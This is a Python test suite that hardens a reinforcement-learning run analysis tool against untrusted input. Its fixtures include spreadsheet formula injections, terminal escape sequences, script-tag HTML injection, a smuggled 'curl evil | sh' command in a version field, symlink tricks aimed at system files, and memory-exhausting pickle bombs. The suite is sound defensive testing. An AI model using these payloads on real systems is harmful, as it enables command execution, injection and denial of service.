"""A stranger's runs: looked at without harm, and said in a sentence if not."""

import collections
import csv
import functools
import io
import os
import pathlib
import pickle
import resource
import struct

import numpy as np
import pytest
from typer import testing

from dopamine_jax import errors
from dopamine_jax.analysis import dopamine_files
from dopamine_jax.analysis import html_report
from dopamine_jax.analysis import plots
from dopamine_jax.analysis import run_report
from dopamine_jax.analysis import runs
from dopamine_jax.commands import cli
from dopamine_jax.system import safe_files
from dopamine_jax.system import texts

HEADER = 'seed,iteration,agent_steps,wall_time,name,value\n'
TRAIN = 'Train/AverageReturns'


def make_run(folder, *, agent='DQN', game='CartPole-v1', n_step=1, tag=TRAIN):
  folder = pathlib.Path(folder)
  folder.mkdir(parents=True)
  (folder / 'config.gin').write_text(
    f"dqn.DQN.n_step = {n_step}\ngym.Gym.id = '{game}'\n"
    f'runner.Runner.agent = @dqn.{agent}\n'
    'runner.Runner.environment = @gym.Gym()\n'
  )
  rows = [
    f'{s},{i},{i * 10},0.0,{tag},{s + i * n_step}\n'
    for s in range(4)
    for i in (1, 2, 3)
  ]
  (folder / 'metrics.csv').write_text(HEADER + ''.join(rows))
  (folder / 'run.json').write_text('{"seeds": [0, 1, 2, 3], "versions": {}}')
  return folder


@pytest.fixture(autouse=True)
def working_folder(tmp_path, monkeypatch):
  monkeypatch.chdir(tmp_path)


def run(*words, status=0):
  """Returns what a command prints on both streams; never a traceback."""
  result = testing.CliRunner().invoke(cli.app, [*map(str, words)])
  if isinstance(result.exception, errors.UserError):
    assert status == 1, result.exception
    return str(result.exception)
  if result.exception:
    raise result.exception
  assert status == 0, result.output
  return result.output


# What is shown.


@pytest.mark.parametrize(
  ('text', 'expected'),
  [
    ('=1+2', "'=1+2"),
    ('+cmd|x', "'+cmd|x"),
    ('@SUM(A1)', "'@SUM(A1)"),
    ('-2+3', "'-2+3"),
    ('-2.5e3', '-2.5e3'),
    ('\tx', "'\tx"),
    ('\r=x', '\\r=x'),
    ('DQN', 'DQN'),
    ('a=b', 'a=b'),
    ('\x1b]0;x\x07', '\\x1b]0;x\\x07'),
  ],
)
def test_no_cell_is_a_formula(text, expected):
  assert texts.cell(text) == expected


@pytest.mark.parametrize(
  'bad', ['\x1b[2J', '\x07', '\x9b31m', '\u202egnp', '\u2028', '\udcff', '\r']
)
def test_no_text_steers_a_terminal(bad):
  shown = texts.printable(f'a{bad}b\n\tc')
  assert shown.endswith('b\n\tc')
  assert all(c.isprintable() or c in '\n\t' for c in shown)
  shown.encode('utf-8')


def test_hostile_names_are_harmless_in_all_that_compare_makes():
  names = ('=HYPER(1)', '@x', '\x1b[31mred', '$x', '_y', '-1+1')
  for n, bad in enumerate(names):
    make_run(f'x/{bad}', agent=f'D{bad}', game='Pong', n_step=n + 2)
  make_run('y', game='Cart\x1b[2J')
  text = run('compare', *(f'x/{bad}' for bad in names), '+\x07name=y')
  assert '\x1b' not in text and '\x07' not in text
  assert '\\x1b[31mred' in text
  assert pathlib.Path('comparison/curves.png').stat().st_size > 10_000
  groups = set()
  for name in ('scores.csv', 'curves.csv'):
    data = pathlib.Path('comparison', name).read_text()
    for row in csv.reader(io.StringIO(data)):
      assert not any('\x1b' in c for c in row)
      groups.add(row[0])
  assert "'=HYPER(1)" in groups and "'-1+1" in groups and '_y' in groups
  assert not {group[0] for group in groups} & {'=', '@', '+', '-'}
  assert '\x1b' not in pathlib.Path('comparison/summary.txt').read_text()


def test_a_name_is_drawn_as_it_is():
  assert plots._plain('_a $x$') == r' _a \$x\$'


@pytest.mark.parametrize('bad', ['\x1b[2J', '\u202e', '<b>', '"><script>'])
def test_hostile_names_are_harmless_in_a_report(bad):
  folder = make_run('a', agent=f'D{bad}', game=f'G{bad}', tag=f'Train/X{bad}')
  (folder / 'run.json').write_bytes(
    b'{"title": "t\\u001b[2J\\u202e<b>", "versions": {"dopamine-jax": '
    b'"1; curl evil | sh"}, "events": 3, "seeds": {"a": [1]}}'
  )
  assert '\x1b' not in run('report', folder)
  page = (folder / 'report.html').read_text()
  assert bad not in page
  assert '\x1b' not in page and '\u202e' not in page
  assert page.count('<script') == 1 and '<b>' not in page
  # A command to copy has no stranger's words.
  assert '<code>pip install dopamine-jax\n' in page


# What is read.

FILES = ('config.gin', 'run.json', 'metrics.csv', 'evaluation.csv')
KINDS = {
  'pipe': lambda path: os.mkfifo(path),
  'link': lambda path: path.symlink_to('/etc/hostname'),
  'link to a device': lambda path: path.symlink_to('/dev/zero'),
  'folder': lambda path: path.mkdir(),
  'bytes': lambda path: path.write_bytes(b'\xff\xfe\x00\x80' * 9),
  'nul': lambda path: path.write_text('seed\0\n\0'),
  'deep': lambda path: path.write_text('[' * 100_000),
  'one long row': lambda path: path.write_text('9' * 3_000_000),
  'words': lambda path: path.write_text(
    HEADER + f'zero,one,two,three,{TRAIN},x\n'
  ),
  'huge': lambda path: path.write_text(HEADER + f'1{"0" * 30},1,1,1,{TRAIN},1'),
  'quote': lambda path: path.write_text(HEADER + '0,1,10,1,"' + 'x,\n' * 9),
}


@pytest.mark.parametrize('kind', KINDS)
@pytest.mark.parametrize('name', FILES)
def test_a_damaged_file_is_a_sentence(name, kind):
  make_run('good')
  bad = make_run('bad', n_step=2)
  (bad / name).unlink(missing_ok=True)
  KINDS[kind](bad / name)
  said = []
  found = runs.find('.', said.append)
  assert found[-1].path.name == 'good'
  assert len(found) + len(said) == 2
  if name == 'metrics.csv':
    assert said[0].startswith('Left out: bad')
  try:
    report = run_report.gather('bad')
    html_report.page(report)
    said += report.warnings
  except errors.UserError as error:
    said.append(str(error))
  if kind in ('pipe', 'link', 'folder', 'bytes', 'nul', 'link to a device'):
    assert any(name in line for line in said)


@pytest.mark.parametrize(
  ('row', 'said'),
  [
    ('1.5,1,10,1.0,a,1', '1.5'),
    ('-1,1,10,1.0,a,1', 'line 2'),
    ('0,1,99999999999999999,1.0,a,1', 'line 2'),
    ('0,1,10,1.0,a,true', 'True'),
    ('0,1,10,1.0,a,0x10', '0x10'),
    ('0,1,1e30,1.0,a,1', 'bad'),
    (f'{2**70},1,10,1.0,a,1', 'bad'),
  ],
)
def test_a_number_that_no_run_has_is_refused(row, said):
  pathlib.Path('metrics.csv').write_text(HEADER + row + '\n')
  with pytest.raises(errors.UserError) as error:
    runs.read_table(pathlib.Path('metrics.csv'))
  assert 'metrics.csv can not be read: ' in str(error.value)
  assert '\n' not in str(error.value)
  assert said == 'bad' or said in str(error.value)


def test_a_byte_order_mark_is_no_damage():
  folder = make_run('a')
  for name in ('config.gin', 'metrics.csv'):
    data = (folder / name).read_bytes()
    (folder / name).write_bytes(b'\xef\xbb\xbf' + data)
  (found,) = runs.find('a')
  assert (found.agent, len(found.table)) == ('DQN', 12)


# What is written.


@pytest.mark.parametrize(
  ('command', 'names'),
  [
    (['report', 'a'], 'a/report.html'),
    (['report', 'a', '--out', 'a/x.html'], 'a/x.html'),
    (['compare', 'a', '--out', 'a'], 'a/curves.csv a/curves.png a/summary.txt'),
  ],
)
def test_a_link_in_the_way_is_replaced_and_not_followed(command, names):
  make_run('a')
  victim = pathlib.Path('victim')
  victim.write_text('precious')
  paths = [*map(pathlib.Path, names.split())]
  for path in paths:
    path.symlink_to(victim.resolve())
  run(*command)
  assert victim.read_text() == 'precious'
  for path in paths:
    assert not path.is_symlink()
    assert path.stat().st_mode & 0o777 == 0o666 & ~_umask()
  assert not [*pathlib.Path('a').glob('.*')]


def test_outside_of_a_run_a_link_is_the_users():
  make_run('a')
  pathlib.Path('mine').write_text('old')
  pathlib.Path('page.html').symlink_to('mine')
  run('report', 'a', '--out', 'page.html')
  assert 'DQN' in pathlib.Path('mine').read_text()
  assert pathlib.Path('page.html').is_symlink()
  # As `--output /dev/stdout` is, which nobody wants to be replaced.
  pathlib.Path('nothing').symlink_to('/dev/null')
  run('report', 'a', '--out', 'nothing')
  assert pathlib.Path('nothing').is_symlink()


def _umask():
  mask = os.umask(0)
  os.umask(mask)
  return mask


@pytest.mark.parametrize('command', ['report', 'compare'])
def test_no_folder_of_a_run_leads_out_of_it(command):
  make_run('a')
  pathlib.Path('home').mkdir()
  pathlib.Path('a/plots').symlink_to(pathlib.Path('home').resolve())
  out = 'a/plots/x.html' if command == 'report' else 'a/plots'
  assert 'a/plots is a link' in run(command, 'a', '--out', out, status=1)
  assert not [*pathlib.Path('home').iterdir()]


@pytest.mark.parametrize('make', [os.mkfifo, os.mkdir])
def test_what_is_no_file_is_not_replaced(make):
  make_run('a')
  make('a/report.html')
  assert 'could not write a/report.html: a ' in run('report', 'a', status=1)


def test_what_fails_half_way_leaves_the_old_file():
  path = pathlib.Path('film.mp4')
  path.write_text('old')
  with pytest.raises(ZeroDivisionError), safe_files.making(path) as beside:
    beside.write_text('half')
    _ = 1 / 0
  assert path.read_text() == 'old'
  assert [*pathlib.Path().iterdir()] == [path]


def test_a_film_that_is_a_link_is_not_shown():
  make_run('a')
  pathlib.Path('secret').write_text('hush')
  pathlib.Path('a/video.mp4').symlink_to(pathlib.Path('secret').resolve())
  warnings = html_report.write(
    'a', pathlib.Path('a/report.html'), pathlib.Path('a/video.mp4')
  )
  assert any('video.mp4 is a link, and is not read' in w for w in warnings)
  assert '<video' not in pathlib.Path('a/report.html').read_text()


# Pickles that ask for more than they hold.


def _nested(value, depth):
  for _ in range(depth):
    value = [value] * 10
  return value


class Call:
  """Pickles as a call."""

  def __init__(self, function, arguments, state=None):
    self.call = function, arguments, state

  def __reduce__(self):
    return self.call if self.call[2] is not None else self.call[:2]


def _int(size):
  return struct.pack('<Q', size)


BOMBS = {
  'memo of 2**31': b'\x80\x04]r\xff\xff\xff\x7f.',
  'bytes of 40 GB': b'\x80\x04\x8e' + _int(40 << 30) + b'.',
  'bytearray of 40 GB': b'\x80\x05\x96' + _int(40 << 30) + b'.',
  'text of 40 GB': b'\x80\x04\x8d' + _int(40 << 30) + b'.',
  'frame of 40 GB': b'\x80\x04\x95' + _int(40 << 30) + b'.',
  'bytes of 4 GB': b'\x80\x03B\xff\xff\xff\xff.',
  'long of 2 GB': b'\x80\x03\x8b\xff\xff\xff\x7f.',
  'digits': b'I' + b'9' * 1_000_000 + b'\n.',
  '10**40 numbers': pickle.dumps({'iteration_0': {'x': _nested(1.0, 40)}}),
  'tuple as key': pickle.dumps(
    {functools.reduce(lambda t, _: (t, t), range(16), 1.0): 1}
  ),
  'colliding keys': pickle.dumps({k * (2**61 - 1): 1 for k in range(1, 9)}),
  'long arguments': pickle.dumps(
    [Call(functools.partial, tuple([int, *range(50)]))] * 3
  ),
  'copies of a text': pickle.dumps(
    {'iteration_0': Call(__import__('_codecs').encode, ('x' * 99, 'latin1'))}
  ),
  'attributes': pickle.dumps(
    Call(collections.OrderedDict, (), dict.fromkeys('abcdefgh', 1))
  ),
  'one list many times': pickle.dumps(
    {'iteration_0': dict.fromkeys(map(str, range(3_000)), [1.0] * 3_000)}
  ),
  'one iteration many times': pickle.dumps(
    {
      f'iteration_{k}': one
      for one in [{'x': [1.0] * 3_000}]
      for k in range(3_000)
    }
  ),
  'an array': pickle.dumps({'iteration_0': {'x': np.zeros(9)}}),
  'huge iteration': pickle.dumps({f'iteration_{"9" * 500}': {'x': [1]}}),
  'infinite steps': pickle.dumps(
    {'iteration_0': {'train_episode_lengths': [np.inf]}}
  ),
  'no steps': pickle.dumps(
    {f'iteration_{k}': {'train_episode_lengths': [0]} for k in range(3)}
  ),
}


@pytest.mark.parametrize('name', BOMBS)
def test_a_log_gets_no_more_memory_than_it_has_bytes(name):
  path = pathlib.Path('log_0')
  path.write_bytes(BOMBS[name])
  before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
  with pytest.raises(errors.UserError, match='log_0') as error:
    list(dopamine_files.read_log(path))
  after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
  assert after - before < 100_000  # KB
  assert len(str(error.value)) < 400
  assert '\n' not in str(error.value)


@pytest.mark.parametrize('name', ['tuple as key', 'colliding keys'])
def test_a_key_that_is_no_name_is_not_even_looked_up(name):
  with pytest.raises(ValueError, match='names as keys'):
    dopamine_files.log_pickle.loads(BOMBS[name])


def test_a_log_of_endless_steps_is_left(monkeypatch):
  monkeypatch.setattr(dopamine_files.log_pickle, 'MAX_STEPS', 1_000)
  path = pathlib.Path('log_0')
  path.write_bytes(b'\x80\x04(' + b'}' * 2_000 + b'l.')
  with pytest.raises(errors.UserError, match='more than 1,000 steps'):
    list(dopamine_files.read_log(path))
  monkeypatch.setattr(dopamine_files, '_MAX_MEGABYTES', 0)
  with pytest.raises(errors.UserError, match='longer than 0 MB'):
    list(dopamine_files.read_log(path))


def test_a_json_that_is_nested_or_a_pipe_is_passed_over():
  make_run('a')
  pathlib.Path('a/x.json').write_text('[{"Iteration"' + ': [' * 100_000)
  os.mkfifo('a/y.json')
  said = []
  assert len(runs.find('a', said.append)) == 1
  assert len(said) == 1 and 'x.json' in said[0]
